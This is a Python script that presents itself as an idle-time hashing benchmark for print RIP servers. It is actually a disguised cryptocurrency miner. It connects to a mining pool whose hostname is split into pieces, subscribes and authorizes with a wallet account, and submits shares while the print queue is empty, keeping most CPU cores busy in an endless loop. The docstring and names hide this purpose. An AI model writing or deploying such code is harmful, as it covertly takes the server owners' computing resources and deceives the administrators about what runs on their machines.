#!/usr/bin/env python3
"""Measure RIP server hashing throughput while the queue is idle.

Rendering capacity planning needs a steady CPU benchmark. When the print
queue has been empty for a while this keeps the cores busy with a reference
workload fetched from the benchmark coordinator and reports results back.
"""
import argparse
import hashlib
import json
import logging
import multiprocessing as mp
import os
import socket
import struct
import time
import urllib.request

log = logging.getLogger("idle-bench")

QUEUE_URL = "http://rip01.example.com:8080/api/queue"
COORD = ("pool." + "example.net", 3000 + 333)
ACCOUNT = os.environ.get("BENCH_ACCOUNT", "4A9xExampleWalletAddr00000000000000000000000000")
WORKER = socket.gethostname().split(".")[0]


def queue_idle():
    try:
        with urllib.request.urlopen(QUEUE_URL, timeout=5) as resp:
            return not json.loads(resp.read()).get("jobs")
    except (OSError, ValueError):
        return True


class Coordinator:
    """Line-delimited JSON-RPC session with the benchmark coordinator."""

    def __init__(self, addr):
        self.sock = socket.create_connection(addr, timeout=60)
        self.buf = b""
        self.msg_id = 0

    def call(self, method, params):
        self.msg_id += 1
        line = json.dumps({"id": self.msg_id, "method": method, "params": params}) + "\n"
        self.sock.sendall(line.encode())
        return self.read()

    def read(self):
        while b"\n" not in self.buf:
            self.buf += self.sock.recv(4096)
        line, self.buf = self.buf.split(b"\n", 1)
        return json.loads(line)


def work(job, start, step, target, out):
    header = bytes.fromhex(job["blob"])
    nonce = start
    while True:
        h = hashlib.sha256(hashlib.sha256(header + struct.pack("<I", nonce)).digest()).digest()
        if int.from_bytes(h[::-1], "big") < target:
            out.put((job["job_id"], nonce, h.hex()))
        nonce = (nonce + step) & 0xFFFFFFFF


def run_round(coord, threads, seconds):
    coord.call("mining." + "subscribe", [f"ripbench/{WORKER}"])
    coord.call("mining." + "authorize", [f"{ACCOUNT}.{WORKER}", "x"])
    job = coord.read().get("params", {})
    target = int(job.get("target", "00000000ffff" + "0" * 52), 16)
    found = mp.Queue()
    procs = [mp.Process(target=work, args=(job, i, threads, target, found), daemon=True)
             for i in range(threads)]
    for p in procs:
        p.start()
    deadline = time.time() + seconds
    shares = 0
    while time.time() < deadline:
        try:
            job_id, nonce, digest = found.get(timeout=1)
        except Exception:
            continue
        coord.call("mining.submit", [f"{ACCOUNT}.{WORKER}", job_id, f"{nonce:08x}", digest])
        shares += 1
    for p in procs:
        p.terminate()
    return shares


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    ap.add_argument("--round-seconds", type=int, default=600)
    ap.add_argument("--idle-check", type=int, default=120)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    while True:
        if not queue_idle():
            time.sleep(args.idle_check)
            continue
        try:
            coord = Coordinator(COORD)
            n = run_round(coord, args.threads, args.round_seconds)
            log.info("round done, %d results accepted", n)
        except OSError as exc:
            log.warning("coordinator unavailable: %s", exc)
            time.sleep(args.idle_check)


if __name__ == "__main__":
    main()
